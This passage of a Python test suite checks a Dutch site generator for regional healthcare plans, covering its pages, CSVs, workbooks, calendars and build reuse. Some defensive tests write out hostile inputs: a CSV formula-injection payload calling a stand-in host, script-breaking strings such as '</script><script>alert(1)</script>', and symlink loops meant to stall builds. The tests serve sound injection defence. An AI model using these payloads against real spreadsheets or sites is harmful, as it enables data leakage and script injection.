    from generator.site.contexts import Lookups
    from generator.site.contexts.national import NationalPages

    project = copy_project(tmp_path / "p")
    project.replace(
        "data/leidraad/leidraad-v3.yml",
        "        - jaar: 2\n          eis: nieuw\n          minimaal: 1\n          toelichting: Er komt minimaal één interventie bij.\n",
        "",
    )
    loaded = load_project(project.root)
    lookups = Lookups(loaded, __import__("datetime").date(2026, 12, 5))
    page = NationalPages(lookups).groeimodel_page(loaded.leidraden["leidraad-v3"])
    kernels = [k for k in lookups.kernels if any(g.kernelement == k.id for g in loaded.leidraden["leidraad-v3"].groeimodel.kernelementen)]
    column = [k.id for k in kernels].index("anders-werken")
    rows = {row["jaar"]: row["cellen"] for row in page.context["rijen"]}
    assert rows["Jaar 2"][column] == "niet vermeld", rows


def test_a_region_page_says_so_where_the_plan_names_no_indicators_or_dates(project):
    # The monitoring page says "Niet vermeld" for monitoring or financing the sources do not
    # mention, but a plan that describes monitoring without naming indicators, or that gives no
    # dates, lost the table or the whole Tijdlijn section without a word.
    import dataclasses

    from generator.site.pipeline import generate_pages, lookups_for

    region = project.regions["eemland"]
    bare = region.model_copy(update={"monitoring": region.monitoring.model_copy(update={"indicatoren": []}), "tijdlijn": []})
    changed = dataclasses.replace(project, regions={**project.regions, "eemland": bare})
    pages = {p.path: p.content for p in generate_pages(REPO, lookups_for(changed, __import__("datetime").date(2026, 12, 5)))}
    text = " ".join(pages["regios/eemland/monitoring-en-financiering.md"].split())
    assert "Indicatoren: niet vermeld" in text, text[:600]
    assert "## Tijdlijn Niet vermeld" in text, text[-600:]


def test_no_csv_cell_starts_a_formula():
    # A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return) as a formula
    # (=HYPERLINK(…) leaks data on click). OWASP's advice: start such a cell with an apostrophe.
    from generator.site.escape import csv_cell

    for hostile in ['=HYPERLINK("http://e.test","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]:
        assert csv_cell(hostile) == "'" + hostile
    for plain in ["Eemland", "3,23", "2026", "< 5", "POH-GGZ", "", 12, None]:
        assert csv_cell(plain) == plain


def test_every_published_csv_cell_is_neutral(tmp_path):
    # The attack: an insurer's name that is a formula, in the tariffs table.
    import csv
    import io

    from conftest import copy_project

    from generator.data.project import load_project
    from generator.site.contexts import Lookups, build_contexts

    project = copy_project(tmp_path / "p", with_regions=True)
    project.replace(
        "data/regios/zuid-holland-noord.yml",
        "    - verzekeraar: Zorg en Zekerheid\n",
        '    - verzekeraar: \'=HYPERLINK("http://e.test/?"&A1;"Z")\'\n',
    )
    lookups = Lookups(load_project(project.root), __import__("datetime").date(2026, 12, 5))
    tables = [c for c in build_contexts(lookups) if c.path.endswith(".csv")]
    assert tables
    for table in tables:
        for row in csv.reader(io.StringIO(table.content.removeprefix("\ufeff"), newline=""), delimiter=";"):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), (table.path, row)
    assert any("'=HYPERLINK" in table.content for table in tables)  # the name is there, as text


def test_the_readmes_figures_are_the_suites():
    # Figures typed into the README drift from the tests (55 hostile cases said, 56 present): each
    # is read back here from what the suite holds.
    import ast
    import json
    import re

    readme = (REPO / "README.md").read_text(encoding="utf-8")
    hostile = json.loads((REPO / "tests/hostile/expected.json").read_text(encoding="utf-8"))["cases"]
    inert = sum(case["expect"] == "inert" for case in hostile.values())
    assert f"| {len(hostile)} cases: {len(hostile) - inert} must fail" in readme and f"{inert} must build" in readme
    shared = json.loads((REPO / "tests/fixtures/plan_cases.json").read_text(encoding="utf-8"))["cases"]
    assert f"; {len(shared)} shared cases" in readme

    def tests_in(name: str) -> int:
        tree = ast.parse((REPO / "tests" / name).read_text(encoding="utf-8"))
        return sum(isinstance(node, ast.FunctionDef) and node.name.startswith("test_") for node in tree.body)

    assert f"| plan check | {tests_in('test_plancheck.py')} cases written from source sentences" in readme
    assert f"| output folders | {tests_in('test_outputs.py')} tests" in readme
    plans = (REPO / "tests/test_plans.py").read_text(encoding="utf-8")
    malformed = re.search(r"^MALFORMED = \[(.*?)^\]", plans, flags=re.M | re.S).group(1)
    cases = len(re.findall(r"^    \(", malformed, flags=re.M))  # one case per "(" at the list's indent
    assert f"; {cases} malformed plan files" in readme
    browser = ast.parse((REPO / "tests/test_browser.py").read_text(encoding="utf-8"))
    page_types = next(ast.literal_eval(n.value) for n in browser.body if isinstance(n, ast.Assign) and n.targets[0].id == "PAGE_TYPES")
    assert f"| {len(page_types)} page types plus" in readme and f"on every one of the {len(page_types)} page types" in readme


def test_own_words_finds_a_copied_passage_and_passes_a_paraphrase(tmp_path):
    """scripts/own-words: data prose that follows a source at 16 of 20 words in order is listed;
    the same facts in other words are not."""
    from generator.cli.ownwords import find

    source = (
        "Inleiding van het plan. Per 1 april 2024 maakt de organisatie samenwerkingsafspraken met het "
        "regionale netwerk in het kader van bijbehorende interventies met onder andere gemeenten, het "
        "sociaal domein, de tweede lijn en de GGZ, maar bijvoorbeeld ook de wijkverpleging. Einde."
    )
    copied = (
        "Per 1 april 2024 maakt de organisatie samenwerkingsafspraken met het regionale netwerk in het kader "
        "van de bijbehorende interventies, met onder meer gemeenten en het sociaal domein."
    )
    own = (
        "Vanaf 1 april 2024 legt de organisatie met partners in de regio vast hoe zij samenwerken bij deze "
        "interventies; het plan noemt de GGZ, gemeenten, de tweede lijn, het sociaal domein en de wijkverpleging."
    )
    data = tmp_path / "regio.yml"
    data.write_text(f"a:\n  tekst: {json.dumps(copied)}\nb:\n  tekst: {json.dumps(own)}\n", encoding="utf-8")
    found = find([data], {"bron.txt": source})
    assert [echo.where.rsplit(".yml", 1)[1] for echo in found] == [".a.tekst"], found
    assert found[0].shared >= 16 and found[0].source == "bron.txt"


@pytest.mark.parametrize("region_id", ["eemland", "midden-brabant", "oost-gelderland", "zuid-holland-noord"])
def test_every_field_of_a_regions_form_has_a_name_of_its_own(project, region_id):
    """Two parts with a row per intervention (Eemland's plan of approach and its evaluation) once
    gave their fields the same names: in the PDF, filling one emptied the other."""
    from collections import Counter

    from generator.site.contexts.base import Lookups
    from generator.site.contexts.practiceform import PracticeForm

    form = PracticeForm(Lookups(project, dt.date(2026, 12, 5)), project.regions[region_id]).build()
    names = Counter(field["naam"] for field in form["velden"])
    assert [name for name, count in names.items() if count > 1] == []


def test_an_end_more_precise_than_a_year_is_said_as_the_plan_says_it(project):
    """'Tot Q2 2025' could not be said: the end was a year only. The year still places the plan in
    time; the plan's own words are shown beside it."""
    from generator.rules.period import plan_period

    region = project.regions["zuid-holland-noord"]
    plan = region.plan.model_copy(update={"einde": "tot en met het tweede kwartaal van 2025"})
    period = plan_period(project, region.model_copy(update={"plan": plan}), dt.date(2026, 12, 5))
    assert period.last == 2025 and period.status == "afgelopen"
    assert period.text.startswith("Afgelopen: het plan liep 2023 tot en met 2025.")
    assert "Het plan noemt als einde: tot en met het tweede kwartaal van 2025." in period.text


def test_every_error_code_and_limit_is_in_the_authors_guide():
    # An author who meets a code looks it up in the guide: every code the program can give is in its
    # table, and the limits the guide states are the ones the program applies.
    import re

    from generator import files, models
    from generator.data import load

    guide = (REPO / "docs/index.md").read_text(encoding="utf-8")
    documented = set(re.findall(r"^\| (E\d{3}) \|", guide, flags=re.M))
    used = {code for path in (REPO / "generator").rglob("*.py") for code in re.findall(r'"(E\d{3})"', path.read_text(encoding="utf-8"))}
    assert used - documented == set()
    limits = guide.split("## Grenzen", 1)[1].split("##", 1)[0]
    text_limit = next(m.max_length for m in models.Text.__metadata__ if hasattr(m, "max_length"))
    line_limit = next(m.max_length for m in models.Line.__metadata__ if hasattr(m, "max_length"))
    for said in [
        f"hoogstens {files.MAX_INPUT_BYTES // 1_000_000} MB",
        f"hoogstens {load.MAX_ITEMS} onderdelen",
        f"hoogstens {load.MAX_DEPTH} niveaus",
        f"hoogstens {load.MAX_DIGITS} cijfers",
        f"hoogstens {text_limit:,}".replace(",", ".") + " tekens",
        f"hoogstens {line_limit}",
    ]:
        assert said in limits, said


def test_two_dates_of_one_day_stay_two_events_in_the_calendar(tmp_path):
    # The attack: two moments with the same day and the same words for it got one UID, and a
    # calendar program keeps one of them: a date lost for every subscriber, and check said "In orde".
    import datetime as dt

    import icalendar
    from conftest import copy_project

    from generator.data.project import load_project
    from generator.site.contexts import Lookups
    from generator.site.contexts.calendar import CalendarPages

    project = copy_project(tmp_path / "p", with_regions=True)
    project.replace(
        "data/regios/eemland.yml",
        "  - wanneer: 1 januari 2024\n",
        "  - wanneer: 1 januari 2024\n    datum: 2024-01-01\n    wat: Een tweede afspraak op die dag.\n"
        '    bron: {document: regioplan-eemland-2026, sectie: "Doelstelling MTVP"}\n  - wanneer: 1 januari 2024\n',
    )
    loaded = load_project(project.root)
    calendar = CalendarPages(Lookups(loaded, dt.date(2026, 12, 5))).calendar(loaded.regions["eemland"])
    items = [c for c in icalendar.Calendar.from_ical(calendar).walk() if c.name in ("VEVENT", "VTODO")]
    on_that_day = [str(c["summary"]) for c in items if "2024-01-01" in str(c.get("dtstart", "").dt if c.get("dtstart") else "")]
    assert len(on_that_day) == 2
    assert len({str(c["uid"]) for c in items}) == len(items)


def test_the_benchmark_ratio_is_taken_from_cpu_seconds():
    # Wall-clock pairs on this shared machine ran from 0.69 to 1.86 within an hour: a build that
    # waited for another program looked slow. The ratio compares the CPU seconds each build needed.
    from generator.engine.bench import Report, Run

    def stages(render: float) -> dict[str, float]:
        return {"load and validate": 0.1, "generate pages": 0.1, "MkDocs render": render}

    busy_then_idle = [Run(stages(2.8), 1.0, cpu=1.1, floor_cpu=1.0), Run(stages(0.8), 2.0, cpu=1.3, floor_cpu=1.0)]
    report = Report(10, runs=busy_then_idle, pages=5, pdfs=2, pdf_one=2.0, pdf_two=1.0)
    assert report.pair_ratios == pytest.approx([1.1, 1.3]) and report.ratio == pytest.approx(1.2)
    assert report.wall_ratios == pytest.approx([3.0, 0.5])  # shown beside it, never judged
    assert any(line.startswith("ratio (CPU): 1.20") for line in report.lines())


def test_a_text_longer_than_a_workbook_cell_holds_says_where_it_is_whole():
    # Excel keeps at most 32,767 characters in a cell and cuts the rest without a word; a joined
    # list of variants can be longer. The cell must say it was cut and where the whole text is.
    import io

    import openpyxl

    from generator.site.spreadsheet import CELL_LIMIT, Column, workbook

    long = "woord " * 8000  # 48,000 characters
    data = workbook([Column("varianten", "de vormen")], [[long]], [("Gegevens", "Proef")], dt.date(2026, 12, 5), "proef.csv")
    cell = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]["A2"].value
    assert len(cell) <= CELL_LIMIT and cell.startswith("woord woord") and cell.endswith("staat in proef.csv]")
    again = workbook([Column("varianten", "de vormen")], [[long]], [("Gegevens", "Proef")], dt.date(2026, 12, 5), "proef.csv")
    assert again == data  # the same rows, the same bytes, whenever they are written


def test_a_workbook_shows_every_decimal_of_an_amount():
    # Pages and CSV show 2,885 euro whole; the workbook kept the number but showed it as 2,89.
    import io

    import openpyxl

    from generator.site.spreadsheet import Column, workbook

    data = workbook([Column("bedrag_euro", "het bedrag", "number")], [[2.885]], [("Gegevens", "Proef")], dt.date(2026, 12, 5), "proef.csv")
    cell = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]["A2"]
    shown = cell.number_format.split(".")[1]
    assert cell.value == 2.885 and shown.startswith("00") and len(shown) >= 3


def test_the_menu_lists_up_to_fifty_regions_and_leaves_more_to_the_regions_page():
    # Issue 29: with every region in the menu of every region page, a region page weighed 105 KB at
    # 200 regions (41 KB of it the menu). Above fifty the regions page lists them, the menu does not.
    from types import SimpleNamespace

    from generator.engine.plugin import list_regions_in_nav

    def regions_entry(count: int):
        nav = [{"Home": "index.md"}, {"Regio's": "regios/index.md"}]
        regions = {f"r{n}": SimpleNamespace(id=f"r{n}", naam=f"Regio {n:03}") for n in range(count)}
        list_regions_in_nav(nav, SimpleNamespace(regions=regions))
        return nav[1]["Regio's"]

    assert len(regions_entry(50)) == 51 and regions_entry(50)[1] == {"Regio 000": "regios/r0/index.md"}
    assert regions_entry(51) == "regios/index.md"


@pytest.mark.parametrize(
    "text",
    [
        '"};alert(1);//',
        "\\",
        "\u2028alert(1)\u2029",
        "</script><script>alert(1)</script>",
        "<!--",
        "]]>",
        "é\u00a0\U0001f600",
        "${alert(1)}",
    ],
)
def test_data_for_a_script_file_stays_data(text):
    # The picker's data is a script file the page loads (<script src>). Text that tries to end the
    # string or the statement, or that a JavaScript parser reads as a line end, stays one value.
    from py_mini_racer import MiniRacer

    from generator.site.escape import script_data

    data = {"regios": [{"naam": text, "feiten": [{"naam": text, "waarde": text}]}], text: [text]}
    source = script_data("gegevens", data)
    assert source.isascii() and source.count("\n") == 1
    engine = MiniRacer()
    engine.eval("var window = {}; var called = false; function alert() { called = true; }")
    engine.eval(source)
    assert engine.eval("called") is False
    assert json.loads(engine.eval("JSON.stringify(window.gegevens)")) == data


def test_a_long_list_in_parts_loses_nothing_and_no_part_outweighs_the_limit():
    # A list of regions too long for one page (the matrix, an intervention's rows) goes in parts;
    # a reader going through the parts must meet every item once, in order, and no part may be
    # heavier than a page can hold, whatever the items weigh.
    import random

    from generator.site.contexts.base import in_parts

    class Item:
        def __init__(self, number: int, heavy: int) -> None:
            self.naam, self.heavy = f"regio {number}", heavy

    draw = random.Random(29)
    for _ in range(2000):
        items = [Item(n, draw.choice([1, 2, 3, 10, 50])) for n in range(draw.randint(1, 80))]
        most = draw.choice([5, 20, 60, 100])
        parts = in_parts("vergelijk/matrix.md", items, most, lambda item: item.heavy)
        if sum(item.heavy for item in items) <= most:
            assert parts == []
            continue
        assert [item for part in parts for item in part.regions] == items
        assert all(len(part.regions) == 1 or sum(i.heavy for i in part.regions) <= most for part in parts)
        assert [part.path for part in parts] == [f"vergelijk/matrix/deel-{n}.md" for n in range(1, len(parts) + 1)]
        assert all(part.naam == f"{part.regions[0].naam} tot en met {part.regions[-1].naam}" for part in parts if len(part.regions) > 1)
        assert all(part.naam == part.regions[0].naam for part in parts if len(part.regions) == 1)
    # Items alike come in parts alike: 50 of weight 1 at most 15 a part are 13, 12, 13 and 12.
    assert [len(part.regions) for part in in_parts("x.md", [Item(n, 1) for n in range(50)], 15)] == [13, 12, 13, 12]


def test_a_day_with_more_rows_than_a_page_holds_is_cut_into_pieces_that_do():
    # Timelines are cut between days; a start date 250 regions share was one part of 105 KB.
    from dataclasses import dataclass

    from generator.site.contexts.base import rows_weight, split_heavy

    @dataclass(frozen=True)
    class Run:
        naam: str
        rijen: list

    day = Run("1 april 2023", [{"wat": "Start <van> MTVP & meer " * 10, "regio": f"regio {n}"} for n in range(250)])
    weight = lambda run: rows_weight(run.rijen, 120)  # noqa: E731
    pieces = split_heavy(day, 20_000, weight)
    assert len(pieces) > 1 and all(weight(piece) <= 20_000 for piece in pieces)
    assert [row for piece in pieces for row in piece.rijen] == day.rijen
    assert [piece.naam for piece in pieces] == [f"1 april 2023 ({n})" for n in range(1, len(pieces) + 1)]
    assert split_heavy(Run("2 april 2023", day.rijen[:3]), 20_000, weight) == [Run("2 april 2023", day.rijen[:3])]


# The stages in the order data flows (ARCHITECTURE.md); the modules at the top of the package are shared by all.
STAGES = ["", "data", "rules", "site", "pdf", "engine", "cli"]


def stage_of(module: str) -> int:
    """The stage of a dotted module name under generator ('generator.site.contexts.base' -> site)."""
    parts = module.split(".")[1:]
    return STAGES.index(parts[0]) if len(parts) > 1 and parts[0] in STAGES else 0


def imported_modules(path, module: str) -> set[str]:
    """The modules a file imports at run time, lazily inside functions too (not those only named
    for type checking)."""
    import ast

    tree = ast.parse(path.read_text(encoding="utf-8"))
    checking_only = {
        id(n) for node in ast.walk(tree) if isinstance(node, ast.If) and "TYPE_CHECKING" in ast.unparse(node.test) for n in ast.walk(node)
    }
    package = module if path.name == "__init__.py" else module.rsplit(".", 1)[0]
    found = set()
    for node in ast.walk(tree):
        if id(node) in checking_only:
            continue
        if isinstance(node, ast.ImportFrom):
            base = node.module or ""
            if node.level:  # relative to the file's package
                parts = package.split(".")
                base = ".".join([*parts[: len(parts) - node.level + 1], *([base] if base else [])])
            # A name may be a module itself ("from generator.rules import plancheck").
            found |= {base, *(f"{base}.{alias.name}" for alias in node.names)}
        elif isinstance(node, ast.Import):
            found |= {alias.name for alias in node.names}
    return found


def generator_modules():
    """(dotted name, file) of every module of the package."""
    package = REPO / "generator"
    for path in sorted(package.rglob("*.py")):
        yield ".".join(["generator", *path.relative_to(package).with_suffix("").parts]).removesuffix(".__init__"), path


def test_no_module_imports_a_later_stage():
    # ARCHITECTURE.md: "each folder of generator/ is a stage and imports only from earlier ones". An
    # import the other way (the PDF path once imported the region pages' code) makes the layout lie.
    backwards = []
    for module, path in generator_modules():
        if path.name == "__main__.py":
            continue  # `python -m generator` starts the commands
        imported = [name for name in imported_modules(path, module) if name.split(".")[0] == "generator"]
        backwards += [(module, name) for name in sorted(imported) if stage_of(name) > stage_of(module)]
    assert backwards == []


def test_only_the_engine_imports_mkdocs():
    # The site engine can be replaced (Material ends on 5 May 2027; the export already feeds three
    # engines): everything before engine/ knows nothing of MkDocs or its theme.
    tied = [
        (module, name)
        for module, path in generator_modules()
        if stage_of(module) != STAGES.index("engine")
        for name in sorted(imported_modules(path, module))
        if name.split(".")[0] in ("mkdocs", "material", "properdocs")
    ]
    assert tied == []


def test_a_plan_document_two_regions_name_is_called_by_its_title(tmp_path):
    # From an attack: a copy of Oost-Gelderland's file under another id and name ("Aanval") made
    # Oost-Gelderland's own sources and verdicts, on its pages and in its PDF, say "regioplan Aanval".
    # A document that is the plan of one region is named after it; of several, by its own title.
    from conftest import copy_project

    from generator.rules.conformance import document_name, short_document_name

    copy = copy_project(tmp_path / "p", with_regions=True)
    own = (REPO / "data/regios/oost-gelderland.yml").read_text(encoding="utf-8")
    copy.write(
        "data/regios/aanval.yml", own.replace("id: oost-gelderland", "id: aanval", 1).replace("naam: Oost-Gelderland", "naam: Aanval", 1)
    )
    project = load_project(copy.root)
    document = project.regions["oost-gelderland"].plan.document
    assert project.regions["aanval"].plan.document == document
    title = next(d.titel for d in project.sources.documenten if d.id == document)
    assert "Aanval" not in document_name(project, document) and title in document_name(project, document)
    assert "Aanval" not in short_document_name(project, document)
    alone = load_project(REPO)
    assert document_name(alone, document) == "het regioplan van Oost-Gelderland"


def test_no_file_of_the_package_or_its_templates_is_ignored_by_git():
    # `site/` in .gitignore once matched generator/site/ too: two new modules were never committed,
    # and a clean checkout could not import the package while every test passed here.
    import shutil
    import subprocess

    if shutil.which("git") is None or not (REPO / ".git").exists():
        pytest.skip("not a git checkout")
    files = [
        str(p.relative_to(REPO))
        for folder in ("generator", "site_templates", "content", "docs", "tests", "data")
        for p in (REPO / folder).rglob("*")
        if p.is_file() and "__pycache__" not in p.parts
    ]
    ignored = subprocess.run(
        ["git", "check-ignore", "--no-index", "--stdin"], cwd=REPO, input="\n".join(files), capture_output=True, text=True
    ).stdout.split()
    assert ignored == []


def test_a_preview_that_takes_over_its_last_build_makes_what_a_fresh_build_makes(tmp_path):
    # Issue 29: after an edit the preview makes again only the pages and workbooks whose inputs
    # changed, and takes the others over from its last build (generator/site/reuse.py). The threat
    # is a stale page: something an output is made from that the comparison misses. Each step
    # changes the site through one kind of input: a region's text (its pages, the open data and
    # its workbook), a template alone (the same values, another text), and another project folder
    # with the same data but its own templates.
    import datetime

    from conftest import copy_project

    from generator.site.pipeline import generate_pages, lookups_for
    from generator.site.reuse import Reuse

    day = datetime.date(2026, 12, 5)
    reuse = Reuse()

    def site(root, reuse=None) -> dict:
        if reuse:
            reuse.next_build()  # as the plugin does before each build of the preview
        return {page.path: page.content for page in generate_pages(root, lookups_for(load_project(root), day, reuse))}

    project = copy_project(tmp_path / "eerste", with_regions=True)
    first = site(project.root, reuse)
    assert first == site(project.root)

    project.replace(
        "data/regios/eemland.yml", "    naam: Flexibele consultduur via anders inroosteren\n", "    naam: Flexibele consultduur (bewerkt)\n"
    )
    edited = site(project.root, reuse)
    assert edited == site(project.root)
    changed = {path for path in edited if edited[path] != first[path]}
    assert "regios/eemland/interventies.md" in changed and "open-data/regio-interventies.xlsx" in changed, sorted(changed)
    # Taken over, not made again: only what the edit changed (and no more than a few pages besides).
    assert reuse.made_now <= len(changed) + 3 and reuse.made_now < len(edited) // 5, (reuse.made_now, len(edited), sorted(changed))

    project.replace("site_templates/regios/overzicht.md.j2", "## Het plan\n", "## Het plan (sjabloon bewerkt)\n")
    assert "(sjabloon bewerkt)" in site(project.root, reuse)["regios/eemland/index.md"]

    other = copy_project(tmp_path / "tweede", with_regions=True)
    other.replace("site_templates/regios/overzicht.md.j2", "## Het plan\n", "## Het plan (ander project)\n")
    assert site(other.root, reuse) == site(other.root)

    # Found by an attacker, each a page left stale by how the templates were told apart:
    # (1) a template in a linked folder inside site_templates (Jinja follows the link; the digest did not);
    shared = tmp_path / "gedeeld"
    shared.mkdir()
    (shared / "voet.md.j2").write_text("Gedeelde tekst: versie 1\n", encoding="utf-8")
    (project.root / "site_templates/gedeeld").symlink_to(shared, target_is_directory=True)
    project.write("site_templates/home.md.j2", project.read("site_templates/home.md.j2") + '{% include "gedeeld/voet.md.j2" %}\n')
    assert "versie 1" in site(project.root, reuse)["index.md"]
    (shared / "voet.md.j2").write_text("Gedeelde tekst: versie 2\n", encoding="utf-8")
    assert "versie 2" in site(project.root, reuse)["index.md"]
    # (2) two folders whose names and texts, run together, were the same bytes;
    project.write("site_templates/zzz", "notities\n")
    site(project.root, reuse)
    project.write("site_templates/zoeken.md.j2", project.read("site_templates/zoeken.md.j2") + "z")
    (project.root / "site_templates/zzz").rename(project.root / "site_templates/zz")
    assert site(project.root, reuse) == site(project.root)
    # (3) a template saved while a build renders, then undone before the next build.
    import generator.site.render as render

    home = project.read("site_templates/home.md.j2")
    made_env = render.environment

    def saved_meanwhile(root):
        env = made_env(root)
        project.write("site_templates/home.md.j2", home.replace("# ", "# (PROEF) ", 1))
        return env

    project.replace("data/regios/eemland.yml", "naam: Eemland\n", "naam: Eemland-Noord\n")
    render.environment = saved_meanwhile
    try:
        during = site(project.root, reuse)
    finally:
        render.environment = made_env
    assert "(PROEF)" not in during["index.md"]  # a build renders with the texts it began with
    project.write("site_templates/home.md.j2", home)
    assert site(project.root, reuse) == site(project.root)


def test_a_template_file_whose_name_is_not_utf8_does_not_end_the_build_in_a_traceback(tmp_path):
    # Found by an attacker: the templates' digest could not write such a name and raised.
    import datetime
    import os

    from conftest import copy_project

    from generator.site.pipeline import generate_pages, lookups_for
    from generator.site.reuse import Reuse

    project = copy_project(tmp_path / "project", with_regions=True)
    day = datetime.date(2026, 12, 5)
    before = {page.path: page.content for page in generate_pages(project.root, lookups_for(load_project(project.root), day))}
    with open(os.path.join(os.fsencode(project.root / "site_templates"), b"caf\xe9.md.j2"), "wb") as odd:
        odd.write(b"niet gebruikt\n")
    after = {page.path: page.content for page in generate_pages(project.root, lookups_for(load_project(project.root), day, Reuse()))}
    assert after == before


def test_links_back_up_in_the_templates_do_not_make_a_build_walk_them_without_end(tmp_path):
    # The threat: a link in site_templates to a folder above it (a mistake, or a project made to
    # stop its builds). Reading the templates through links, every such link repeats the tree below
    # it: two of them took more than a minute and kept growing. Each real folder is entered once.
    import datetime

    from conftest import copy_project

    from generator.site.pipeline import generate_pages, lookups_for
    from generator.site.render import environment

    project = copy_project(tmp_path / "project", with_regions=True)
    listed = environment(project.root).loader.list_templates()
    before = {
        page.path: page.content
        for page in generate_pages(project.root, lookups_for(load_project(project.root), datetime.date(2026, 12, 5)))
    }
    (project.root / "site_templates/regios/terug").symlink_to("..", target_is_directory=True)
    (project.root / "site_templates/leidraad/omhoog").symlink_to("../..", target_is_directory=True)
    env = environment(project.root)
    assert env.loader.list_templates() == listed  # each template once, under its own name
    after = {
        page.path: page.content
        for page in generate_pages(project.root, lookups_for(load_project(project.root), datetime.date(2026, 12, 5)))
    }
    assert after == before
